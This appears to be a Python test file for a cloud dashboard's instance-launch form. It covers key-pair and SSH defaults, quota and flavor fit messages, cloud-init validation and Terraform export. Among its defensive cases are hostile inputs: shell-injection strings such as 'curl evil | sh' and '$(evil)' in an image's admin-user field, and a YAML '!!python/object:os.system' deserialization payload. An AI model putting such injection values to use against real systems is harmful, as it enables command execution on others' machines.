"""The launch form: what it chooses for somebody who is new, what does not fit, what cloud-init would not take, and its review."""

import base64
import re

import pytest
import yaml

from dashboard import cloud_init
from dashboard.panels import launch_text
from dashboard.panels.launch import Room
from dashboard.panels.reach import allows_ssh, user_of
from tests.conftest import new_volume
from tests.dashboard.browser import Forms

WHERE = "/project/instances/launch/"
NANO = {"id": "n", "vcpus": 1, "ram": 64, "disk": 1}


@pytest.fixture
def browser(window):
    return window


@pytest.fixture
def keyless(cloud):
    """Nobody has a key pair, as at the beginning."""
    for key in cloud.client.call("compute", "GET", "/os-keypairs")["keypairs"]:
        cloud.client.call("compute", "DELETE", f"/os-keypairs/{key['keypair']['name']}")


def test_a_newcomer_gets_all_that_is_needed_to_log_in(cloud, browser, keyless):
    admin = cloud.client
    fields = Forms(browser.open(WHERE).text).forms[WHERE]
    assert fields["key_name"] == "*new" and fields["ssh"] == ["1"] and fields["floating"] == ["1"]
    assert fields["image"] == admin.find("image", "images", "cirros")["id"] and len(fields["networks"]) == 1
    assert fields["flavor"] == admin.find("compute", "flavors", "m1.nano")["id"], "the smallest"
    browser.post(WHERE, name="reached", step="create")
    assert "reached is being built" in browser.words(), browser.words()[-500:]
    server = admin.find("compute", "servers", "reached", "/servers/detail")
    file, key = re.search(r'href="data:application/x-pem-file;base64,([^"]+)" download="([^"]+)"', browser.text).group(2, 1)
    assert b"PRIVATE KEY" in base64.b64decode(key) and file == f"{server['key_name']}.pem"
    address = re.search(rf"ssh -i {file} cirros@([\d.]+)", browser.words())[1]
    port = admin.call("network", "GET", f"/ports?device_id={server['id']}")["ports"][0]
    (ip,) = admin.call("network", "GET", f"/floatingips?floating_ip_address={address}")["floatingips"]
    assert ip["port_id"] == port["id"]
    (group,) = admin.call("network", "GET", f"/security-groups?name=ssh&project_id={admin.project_id}")["security_groups"]
    assert group["id"] in port["security_groups"]
    rules = {(r["protocol"], r["port_range_min"], r["remote_ip_prefix"]) for r in group["security_group_rules"]}
    assert ("tcp", 22, "127.0.0.1/32") in rules
    # Who has a key is asked for no more, and a second launch uses the same group.
    fields = Forms(browser.open(WHERE).text).forms[WHERE]
    assert fields["key_name"] == server["key_name"] and "floating" not in fields and "ssh" not in fields
    public = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdgJ5gD8fd0P0G5PkR0bFzZ2iQn2HkC2o8o2oT2pJ2b me@home"
    browser.post(WHERE, name="reached-too", public_key=public, ssh="1", step="create")
    assert browser.path == "/project/instances/"
    keys = [k["keypair"]["name"] for k in admin.call("compute", "GET", "/os-keypairs")["keypairs"]]
    assert len(keys) == 2 and any(name.startswith("mehome-") for name in keys)
    assert len(admin.call("network", "GET", f"/security-groups?name=ssh&project_id={admin.project_id}")["security_groups"]) == 1


def test_what_is_refused_leaves_no_key(cloud, browser, keyless):
    admin = cloud.client
    image = admin.call("image", "POST", "/images", {"name": "aaa-empty", "disk_format": "raw", "container_format": "bare"})["id"]
    admin.call("image", "PUT", f"/images/{image}/file", raw=b"x", content_type="application/octet-stream")
    browser.open(WHERE)
    admin.call("image", "DELETE", f"/images/{image}")
    browser.post(WHERE, name="refused", step="create")
    assert browser.status == 400 and "Choose from the list" in browser.words()
    browser.open(WHERE).post(WHERE, name="many", count="2", step="create")
    assert browser.status == 400 and "One address is for one instance" in browser.words()
    browser.open(WHERE).post(WHERE, name="odd", hints="group=nonsense", step="create")
    assert browser.status in (400, 404), browser.words()[-300:]
    assert not admin.call("compute", "GET", "/os-keypairs")["keypairs"]


def test_flavors_say_why_they_do_not_fit(cloud, browser, scriptless):
    admin = cloud.client
    image = admin.call("image", "POST", "/images", {"name": "large", "disk_format": "raw", "container_format": "bare",
                                                    "min_disk": 15, "min_ram": 100})["id"]
    admin.call("image", "PUT", f"/images/{image}/file", raw=b"x", content_type="application/octet-stream")
    nano = admin.find("compute", "flavors", "m1.nano")["id"]
    assert "disabled" not in option(scriptless.open(WHERE).text, nano)
    text = option(scriptless.open(f"{WHERE}?image={image}").text, nano)
    assert "disabled" in text and re.search(r"the image needs (0\.098 GiB RAM|15 GiB disk)", text)
    fields = Forms(scriptless.text).forms[WHERE]
    assert fields["flavor"] != nano and fields["flavor"]
    scriptless.post(WHERE, name="small", flavor=nano, step="create")
    assert scriptless.status == 400 and "This does not fit: the image needs" in scriptless.words()
    if hasattr(browser, "page"):  # the same while one chooses, by a script
        page = browser.open(WHERE).page
        assert page.locator("#f-flavor").input_value() == nano
        page.locator("#f-image").select_option(image)
        page.locator(f'#f-flavor option[value="{nano}"][disabled]').wait_for(state="attached")
        assert page.locator("#f-flavor").input_value() == fields["flavor"] and "description" not in page.url
    project = f"/os-quota-sets/{admin.project_id}"
    used = admin.call("compute", "GET", f"{project}/detail")["quota_set"]["cores"]["in_use"]
    admin.call("compute", "PUT", project, {"quota_set": {"cores": used + 1}})
    try:
        found = re.findall(r"<option[^>]*disabled[^>]*>([^<]+)</option>", browser.open(WHERE).text)
        assert found and all("your quota has 1 VCPUs left" in text for text in found)
    finally:
        admin.call("compute", "PUT", project, {"quota_set": {"cores": 100}})
        admin.call("image", "DELETE", f"/images/{image}")


def option(text: str, value: str) -> str:
    return re.search(rf'<option value="{value}"[^>]*>[^<]*</option>', text)[0]


def test_a_flavor_fits_into_what_is_left():
    limits = {"maxTotalInstances": 10, "totalInstancesUsed": 8, "maxTotalCores": -1, "totalCoresUsed": 99,
              "maxTotalRAMSize": 1000, "totalRAMUsed": 900}
    room = Room(limits, None, False, 1)
    assert not room.lacks(NANO) and room.lacks({**NANO, "ram": 101}) == "your quota has 0.098 GiB RAM left"
    assert Room(limits, None, False, 3).lacks(NANO) == "your quota has 2 instances left"
    image = {"min_ram": 0, "min_disk": 0, "size": 5 * 2**30, "virtual_size": 2 * 2**30 + 1}
    assert Room({}, image, True, 1).lacks(NANO) == "the image needs 5 GiB disk"
    assert not Room({}, image, False, 1).lacks(NANO) and not Room({}, image, True, 1).lacks({**NANO, "disk": 0})


@pytest.mark.parametrize(("text", "said"), [
    ("#!/bin/sh\necho", ""), ("#cloud-config\n", ""), ("#cloud-config\n{}", ""), ("#cloud-config\npackages: [a]", ""),
    ("echo", "would ignore this"), ("#cloud-config\n- a", "key: value"),
    ("#cloud-config\npackages: a", "“packages” must be a list"),
    ("#cloud-config\na: [", "cannot read this in line"), ("#cloud-config\na: &a [1]\nb: *a", "aliases are not checked"),
    ("#cloud-config\na: !!python/object:os.system {}", "cannot read this"), ("#cloud-config-archive\n- x", ""),
    ("#cloud-config\n" + "[" * 5000, "cannot read this"), ("## template: jinja\n#cloud-config\na: {{ b }}", "")])
def test_what_cloud_init_does_not_take(text, said):
    assert said in cloud_init.mistake(text) and bool(said) == bool(cloud_init.mistake(text))


def test_what_cloud_init_does_not_know():
    assert cloud_init.doubts("#cloud-config\npackage: [a]\npackages: [a]") == [
        "cloud-init does not know “package”. Do you mean “packages”?"]
    assert not cloud_init.doubts("#!/bin/sh") and not cloud_init.doubts("#cloud-config\npackages: a")


VALUES = {"source": "image", "image": "i", "volume": "v", "snapshot": "", "volume_gb": None, "count": 1, "user_data": "",
          "networks": ["n"], "ports": ["p"], "flavor": "f", "name": "web", "description": "", "zone": "", "key_name": "",
          "groups": [],
          "metadata": "", "config_drive": False, "hints": "", "server_group": "", "delete_volume": False}


def test_a_review_as_terraform():
    text = launch_text.terraform({**VALUES, "name": 'a"${b}%{c}\\', "metadata": "k=é\x08\\b", "key_name": "*new", "count": 2,
                                  "user_data": "#!/bin/sh\necho ${X}", "hints": "group=g\nown=1"})
    assert 'name = "a\\"$${b}%%{c}\\\\"' in text and "count = 2" in text
    assert 'metadata = { "k" = "é\\u0008\\\\b" }' in text
    assert 'user_data = "#!/bin/sh\\necho $${X}"' in text
    assert "key_pair = openstack_compute_keypair_v2.key.name" in text
    assert '  network {\n    uuid = "n"\n  }\n  network {\n    port = "p"\n  }' in text
    assert 'group = "g"' in text and 'additional_properties = { "own" = "1" }' in text
    volume = launch_text.terraform({**VALUES, "source": "volume", "networks": [], "ports": []})
    assert 'network_mode = "auto"' in volume and 'destination_type = "volume"' in volume and "image_id" not in volume


def test_many_keys_that_cloud_init_does_not_know_take_no_time(monkeypatch):
    """To find what one of them may have meant takes a millisecond, in which no other page is served."""
    asked = []
    monkeypatch.setattr("dashboard.cloud_init.difflib.get_close_matches", lambda *about: asked.append(about) or [])
    assert len(cloud_init.doubts("#cloud-config\n" + "".join(f"runcmd{n}: 1\n" for n in range(1000)))) == 5
    assert len(asked) == 5


def test_user_data_is_read_while_other_pages_are_served(monkeypatch):
    """60 kB of YAML take a second."""
    run = []
    monkeypatch.setattr("common.native.EXECUTOR", lambda work, *about, **more: run.append(work) or work(*about, **more))
    assert "in line 2" in cloud_init.mistake("#cloud-config\na: [") and cloud_init.doubts("#cloud-config\nb: 1")
    assert run == [yaml.load] * 2


def test_the_review_shows_the_same_for_other_tools(browser):
    browser.open(WHERE).post(WHERE, name="seen", user_data="#cloud-config\npackage: [a]", step="review")
    words = browser.words()
    assert "openstack server create" in words and 'resource "openstack_compute_instance_v2" "server"' in words
    assert "Do you mean “packages”?" in words


def test_who_logs_in():
    assert [user_of(i) for i in ({"name": "Ubuntu 24.04"}, {"name": "x", "os_distro": "debian"}, {"os_admin_user": "me"}, {},
                                 None,
                                 {"name": "mine"})] == ["ubuntu", "debian", "me", "", "", ""]


@pytest.mark.parametrize("hostile", ["x; curl evil | sh #", "-oProxyCommand=evil", "$(evil)", "a b", "a\nb", "x" * 33, "me\n"])
def test_an_image_of_others_puts_nothing_into_the_command_for_the_shell(hostile):
    assert user_of({"os_admin_user": hostile, "os_distro": "debian"}) == "debian" and user_of({"os_admin_user": hostile}) == ""


def test_whether_a_group_lets_ssh_in():
    rule = {"direction": "ingress", "protocol": "tcp", "port_range_min": 20, "port_range_max": 30, "remote_group_id": None}
    assert allows_ssh([{"security_group_rules": [rule]}])
    for change in ({"direction": "egress"}, {"protocol": "udp"}, {"port_range_max": 21}, {"remote_group_id": "g"}):
        assert not allows_ssh([{"security_group_rules": [{**rule, **change}]}])


def test_columns_are_chosen(cloud, browser):
    where = "/project/volumes/"
    new_volume(cloud.client, "first")
    browser.open(where)
    assert 'data-label="Zone"' in browser.text
    if not hasattr(browser, "page"):
        pytest.skip("needs Chromium")
    browser.open(f"{where}?q=first&size=50")
    browser.page.locator("details.columns summary").click()
    browser.page.get_by_role("checkbox", name="Zone").uncheck()
    browser.page.get_by_role("button", name="Show these").click()
    browser.page.wait_for_url(f"**{where}?q=first&size=50")
    assert 'data-label="Zone"' not in browser.page.content() and 'data-label="Size"' in browser.page.content()
    assert 'data-label="Zone"' not in browser.open(where).text and 'data-label="Zone"' in browser.open("/project/instances/").text
    browser.page.locator("details.columns summary").click()
    browser.page.get_by_role("checkbox", name="Zone").check()
    browser.page.get_by_role("button", name="Show these").click()
    browser.page.locator('td[data-label="Zone"]').first.wait_for()
